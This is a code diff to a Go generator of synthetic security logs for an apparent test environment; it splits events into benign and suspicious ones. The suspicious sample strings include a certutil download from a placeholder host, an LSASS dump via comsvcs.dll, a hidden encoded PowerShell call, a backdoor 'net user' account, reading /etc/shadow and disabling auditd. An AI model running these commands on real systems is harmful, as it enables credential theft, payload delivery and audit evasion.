@@ -80,8 +80,12 @@ func randomIn(p netip.Prefix, rnd *rand.Rand) string {
 // users are account names on the impersonated hosts.
 var users = []string{"root", "admin", "operator", "scada", "oracle", "backup", "i.petrov", "a.seitkali", "svc_backup", "engineer"}
 
-// attackNets are networks of Internet background and attackers.
+// attackNets are networks of the attackers.
 var attackNets = []string{"185.220.101.", "45.155.205.", "91.240.118.", "194.26.29.", "103.145.13.", "5.188.62."}
+
+// publicFirst are first octets of the Internet background's addresses
+// (millions of addresses, a few records each, as real background is).
+var publicFirst = []int{5, 31, 37, 45, 62, 77, 85, 91, 95, 103, 109, 176, 178, 185, 188, 193, 194, 195, 212, 217}
 
 var almaty = time.FixedZone("ALMT", 5*3600)
 
@@ -164,8 +168,16 @@ func (g *generator) host() asset {
 
 // noise is a background Internet address.
 func (g *generator) noise() string {
-	return fmt.Sprintf("%s%d", g.pick(attackNets), 1+g.rnd.IntN(254))
+	return fmt.Sprintf("%d.%d.%d.%d", publicFirst[g.rnd.IntN(len(publicFirst))], g.rnd.IntN(256), g.rnd.IntN(256), 1+g.rnd.IntN(254))
 }
+
+// internal is an address of a corporate network.
+func (g *generator) internal() string {
+	return fmt.Sprintf("10.20.%d.%d", g.rnd.IntN(256), 1+g.rnd.IntN(254))
+}
+
+// suspicious reports whether a record should look malicious.
+func (g *generator) suspicious() bool { return g.rnd.Float64() < g.mix.Suspicious }
 
 // attack returns the source and target of an authentication failure: in a
 // burst (a run of 20 to 200 failures from one attacker on one host) with
@@ -184,7 +196,10 @@ func (g *generator) attack() (src string, dst asset) {
 		g.burst.left = 20 + g.rnd.IntN(2*burstMean-40)
 		return g.burst.src, g.burst.dst
 	}
-	return g.noise(), g.host()
+	if g.rnd.IntN(4) == 0 {
+		return g.noise(), g.host()
+	}
+	return g.internal(), g.host()
 }
 
 // next returns the record of sequence seq, its device time now.
@@ -209,7 +224,10 @@ func (g *generator) render(kind, m string, now time.Time) []byte {
 			stamp, a.host, pid, user, 2+g.rnd.IntN(200), port, m)
 	case KindSudo3164:
 		a := g.host()
-		cmd := []string{"/usr/bin/systemctl stop auditd", "/usr/bin/journalctl -u sshd", "/bin/cat /etc/shadow", "/usr/sbin/iptables -F"}[g.rnd.IntN(4)]
+		cmd := []string{"/usr/bin/systemctl status nginx", "/usr/bin/journalctl -u sshd", "/usr/bin/apt-get update", "/usr/bin/systemctl restart chronyd", "/usr/bin/tail -n 100 /var/log/syslog"}[g.rnd.IntN(5)]
+		if g.suspicious() {
+			cmd = []string{"/usr/bin/systemctl stop auditd", "/bin/cat /etc/shadow", "/usr/sbin/iptables -F", "/bin/bash"}[g.rnd.IntN(4)]
+		}
 		return fmt.Appendf(nil, "<85>%s %s sudo: %s : TTY=pts/%d ; PWD=/home/%s/%s ; USER=root ; COMMAND=%s",
 			stamp, a.host, user, g.rnd.IntN(8), user, m, cmd)
 	case KindCEF:
@@ -227,7 +245,7 @@ func (g *generator) render(kind, m string, now time.Time) []byte {
 		a := g.host()
 		local := now.In(almaty)
 		return fmt.Appendf(nil, `<189>%s fw-edge-1 date=%s time=%s devname="FG-100F" devid="%s" logid="0000000013" eventtime=%d tz="+0500" type="traffic" subtype="forward" level="warning" srcip=%s srcport=%d dstip=%s dstport=%d proto=6 action="deny" policyid=7`,
-			stamp, local.Format("2006-01-02"), local.Format("15:04:05"), m, now.UnixNano(), g.noise(), port, a.ip, []int{23, 502, 3389, 445}[g.rnd.IntN(4)])
+			stamp, local.Format("2006-01-02"), local.Format("15:04:05"), m, now.UnixNano(), g.noise(), port, a.ip, g.deniedPort())
 	case KindWinLogonFailed:
 		src, a := g.attack()
 		return winEvent(now, a.host, 4625, "Security", "Microsoft-Windows-Security-Auditing", m,
@@ -240,14 +258,15 @@ func (g *generator) render(kind, m string, now time.Time) []byte {
 			user, []int{2, 3, 10}[g.rnd.IntN(3)], 2+g.rnd.IntN(200), port, g.rnd.IntN(500))
 	case KindSysmonProcess:
 		a := g.host()
-		cmd := []string{`powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=`,
-			`cmd.exe /c whoami /all`, `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Temp\l.dmp full`,
-			`certutil.exe -urlcache -split -f http://` + g.noise() + `/a.exe C:\Users\Public\a.exe`,
-			`svchost.exe -k netsvcs -p -s Schedule`, `notepad.exe C:\Users\Public\report.txt`, `net.exe user backup P@ss /add`}[g.rnd.IntN(7)]
-		image := `C:\Windows\System32\` + strings.Fields(cmd)[0]
+		proc := benignProcs[g.rnd.IntN(len(benignProcs))]
+		if g.suspicious() {
+			proc = suspiciousProcs[g.rnd.IntN(len(suspiciousProcs))]
+			proc.cmd = strings.ReplaceAll(proc.cmd, "ADDR", g.noise())
+		}
+		cmd, image, parent := proc.cmd, proc.image, proc.parent
 		return winEvent(now, a.host, 1, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", m,
-			`"UtcTime":%q,"ProcessId":%d,"Image":%q,"CommandLine":%q,"User":"CORP\\%s","ParentImage":"C:\\Windows\\explorer.exe","IntegrityLevel":"High","LogonId":"0x3e7"`,
-			now.UTC().Format("2006-01-02 15:04:05.000"), pid, image, cmd, user)
+			`"UtcTime":%q,"ProcessId":%d,"Image":%q,"CommandLine":%q,"User":"CORP\\%s","ParentImage":%q,"IntegrityLevel":"Medium","LogonId":"0x3e7"`,
+			now.UTC().Format("2006-01-02 15:04:05.000"), pid, image, cmd, user, parent)
 	case KindZeekConn:
 		a := g.host()
 		return fmt.Appendf(nil, `{"_path":"conn","ts":%.6f,"uid":%q,"id.orig_h":%q,"id.orig_p":%d,"id.resp_h":%q,"id.resp_p":%d,"proto":"tcp","service":%q,"duration":%.3f,"orig_bytes":%d,"resp_bytes":%d,"conn_state":"SF"}`,
@@ -266,6 +285,36 @@ func (g *generator) render(kind, m string, now time.Time) []byte {
 			2000000+g.rnd.IntN(10000), sig, 1+g.rnd.IntN(3))
 	}
 	return nil
+}
+
+// process is a process creation: image, command line and parent image.
+type process struct{ image, cmd, parent string }
+
+var benignProcs = []process{
+	{`C:\Program Files\Google\Chrome\Application\chrome.exe`, `"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=ru`, `C:\Program Files\Google\Chrome\Application\chrome.exe`},
+	{`C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`, `C:\Windows\System32\services.exe`},
+	{`C:\Windows\System32\notepad.exe`, `"C:\Windows\system32\notepad.exe" C:\Users\Public\report.txt`, `C:\Windows\explorer.exe`},
+	{`C:\Windows\System32\conhost.exe`, `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`, `C:\Windows\System32\cmd.exe`},
+	{`C:\Windows\System32\taskhostw.exe`, `taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}`, `C:\Windows\System32\svchost.exe`},
+	{`C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`, `"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "C:\Users\Public\budget.xlsx"`, `C:\Windows\explorer.exe`},
+	{`C:\Windows\System32\wbem\WmiPrvSE.exe`, `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`, `C:\Windows\System32\svchost.exe`},
+}
+
+var suspiciousProcs = []process{
+	{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=`, `C:\Windows\explorer.exe`},
+	{`C:\Windows\System32\cmd.exe`, `cmd.exe /c whoami /all`, `C:\Windows\System32\wbem\WmiPrvSE.exe`},
+	{`C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Temp\l.dmp full`, `C:\Windows\System32\cmd.exe`},
+	{`C:\Windows\System32\certutil.exe`, `certutil.exe -urlcache -split -f http://ADDR/a.exe C:\Users\Public\a.exe`, `C:\Windows\System32\cmd.exe`},
+	{`C:\Windows\System32\net.exe`, `net.exe user backup P@ss /add`, `C:\Windows\System32\cmd.exe`},
+}
+
+// deniedPort is the destination port of a denied connection: mostly web
+// and remote access, sometimes (suspicious) telnet or Modbus.
+func (g *generator) deniedPort() int {
+	if g.suspicious() {
+		return []int{23, 502}[g.rnd.IntN(2)]
+	}
+	return []int{443, 80, 22, 3389, 445, 8080}[g.rnd.IntN(6)]
 }
 
 // winEvent renders an event in evtx_dump's JSON shape, one line; the marker
